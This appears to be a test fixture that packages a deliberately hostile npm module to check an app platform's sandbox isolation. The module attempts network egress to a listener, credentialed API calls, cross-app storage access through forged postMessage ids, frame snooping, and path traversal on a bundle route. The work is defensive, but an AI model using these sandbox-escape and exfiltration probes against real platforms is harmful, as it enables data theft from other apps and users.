import { createHash } from 'node:crypto';
import { cacheLocalPackage } from '../localPackage.ts';
import { PROBE_PRELUDE, probeRenderer } from './probeApp.ts';

/** A hostile npm package: its own code runs the attacks, the app only calls it. */
export const PROBE_PACKAGE = 'room-probe-pkg';

/**
 * The package's module. Each export runs one set of attempts from inside the package (with `env` the
 * row's targets) and resolves to the outcomes, in the same shape as `probeApp`'s `out`.
 */
const INDEX = `import * as sdk from '@room/sdk';

${PROBE_PRELUDE}
const done = (out) => Object.assign(out, { from: ${JSON.stringify(PROBE_PACKAGE)}, violations: [...new Set(violations)].sort() });
const load = (tag, attrs) => new Promise((resolve, reject) => {
  const el = document.createElement(tag);
  Object.assign(el, attrs);
  el.onload = () => resolve('loaded');
  el.onerror = () => reject(new Error(tag + ' error'));
  document.body.append(el);
});

/** Every way out of the frame a package could try. */
export async function egress(env) {
  const out = {};
  out.fetch = await attempt(() => fetch(env.listener + '/pb-fetch').then((r) => r.status));
  out.noCors = await attempt(() => fetch(env.listener + '/pb-nocors', { mode: 'no-cors' }).then((r) => r.type));
  out.beacon = await attempt(() => navigator.sendBeacon(env.listener + '/pb-beacon', 'x'));
  out.socket = await attempt(() => new Promise((resolve, reject) => {
    const ws = new WebSocket(env.listener.replace('http', 'ws') + '/pb-ws');
    ws.onopen = () => resolve('open');
    ws.onerror = () => reject(new Error('socket error'));
  }));
  out.image = await attempt(() => load('img', { src: env.listener + '/pb-img' }));
  out.script = await attempt(() => load('script', { type: 'module', src: env.listener + '/pb-script.js' }));
  out.events = await attempt(() => new Promise((resolve, reject) => {
    const es = new EventSource(env.listener + '/pb-events');
    es.onopen = () => resolve('open');
    es.onerror = () => { es.close(); reject(new Error('eventsource error')); };
  }));
  out.worker = await attempt(() => { new Worker(env.listener + '/pb-worker.js'); return 'created'; });
  out.rtc = await attempt(() => { new RTCPeerConnection(); return 'created'; });
  out.api = await attempt(() => fetch(env.shell + '/api/rooms', { credentials: 'include' }).then((r) => r.text()));
  await wait(500);
  return done(out);
}

/** The browser's own storage, then the app's @room/sdk storage (its own namespace is all it gets). */
export async function storage() {
  const out = {};
  out.idb = await attempt(() => new Promise((resolve, reject) => {
    const r = indexedDB.open('pb');
    r.onsuccess = () => resolve('opened');
    r.onerror = () => reject(r.error);
  }));
  out.local = await attempt(() => { localStorage.setItem('pb', '1'); return localStorage.getItem('pb'); });
  out.session = await attempt(() => { sessionStorage.setItem('pb', '1'); return sessionStorage.getItem('pb'); });
  out.cookie = await attempt(() => { document.cookie = 'pb=1; path=/'; return document.cookie; });
  out.caches = await attempt(() => caches.open('pb').then(() => 'opened'));
  out.worker = await attempt(() => navigator.serviceWorker.register('/pb-sw.js').then((r) => r.scope));
  out.opfs = await attempt(() => navigator.storage.getDirectory().then(() => 'opened'));
  out.own = await attempt(async () => { await sdk.storage.set('pkg-own', 'PB2'); return sdk.storage.get('pkg-own'); });
  return done(out);
}

/** Another app of the room: its storage (forged ids), its frame, its site, the room's channel. */
export async function crossApp(env) {
  const out = {};
  const claim = { appId: env.victim, instanceId: env.victim, roomId: env.room };
  parent.postMessage({ type: 'sdk-call', id: 9001, method: 'storage.set', params: { key: 'forged', value: 'PB3', ...claim } }, '*');
  parent.postMessage({ type: 'sdk-call', id: 9002, method: 'storage.get', params: { key: 'secret', ...claim } }, '*');
  out.get = await attempt(() => sdk.storage.get('secret'));
  out.siblings = await attempt(() => {
    const docs = [];
    for (let i = 0; i < parent.frames.length; i++) if (parent.frames[i] !== window) docs.push(parent.frames[i].document.title);
    return docs.length + ' of ' + parent.frames.length;
  });
  out.parent = await attempt(() => parent.document.title);
  out.victimSite = await attempt(() => fetch(env.victimOrigin + '/').then((r) => r.status));
  out.own = await attempt(() => sdk.storage.set('pkg-own', 'PB3'));
  await wait(500);
  out.keys = await attempt(async () => JSON.stringify(await sdk.storage.keys()));
  return done(out);
}

/** The bundle route of its own site: its own bundle, another app's, malformed and traversing paths. */
export async function deps(env) {
  const out = {};
  const own = performance.getEntriesByType('resource').map((e) => new URL(e.name))
    .find((u) => u.origin === location.origin && u.pathname.startsWith('/deps/'));
  out.ownPath = own ? own.pathname : null;
  const hash = own ? own.pathname.slice(6, -3) : '';
  const script = (src) => attempt(() => load('script', { type: 'module', src }));
  out.ownAgain = await script(out.ownPath + '?again');
  out.victim = await script(env.victimDeps);
  out.malformed = await script('/deps/zz.js');
  out.upper = await script('/deps/' + hash.toUpperCase() + '.js');
  out.suffix = await script('/deps/' + hash + '.js/x.js');
  out.traversal = await script('/deps/..%2fruntime%2fframe.js');
  out.fetch = await attempt(() => fetch(out.ownPath).then((r) => r.status));
  return done(out);
}
`;

// The version names the code: a changed package is a new version, so a cache filled earlier never serves stale code.
export const PROBE_PACKAGE_VERSION = `0.0.0-p${createHash('sha256').update(INDEX).digest('hex').slice(0, 12)}`;

const FILES = {
  'package.json': JSON.stringify({
    name: PROBE_PACKAGE,
    version: PROBE_PACKAGE_VERSION,
    type: 'module',
    module: 'index.js',
    main: 'index.js',
    sideEffects: false,
  }),
  'index.js': INDEX,
};

/** An app that calls one of the package's probes with `env` and renders its outcome as `probeApp` does. */
export function packageProbeApp(
  probe: string,
  env: Record<string, string | undefined> = {},
): Record<string, string> {
  return {
    'package.json': JSON.stringify({ dependencies: { [PROBE_PACKAGE]: PROBE_PACKAGE_VERSION } }),
    'src/App.tsx': `import { useEffect, useState } from 'react';
import { ${probe} as probe } from '${PROBE_PACKAGE}';

${probeRenderer(`probe(${JSON.stringify(env)})`)}`,
  };
}

/** Puts the probe package into the npm cache at `dir` (a no-op when this version is there). */
export function cacheProbePackage(dir: string): Promise<void> {
  return cacheLocalPackage(dir, { name: PROBE_PACKAGE, version: PROBE_PACKAGE_VERSION, files: FILES });
}
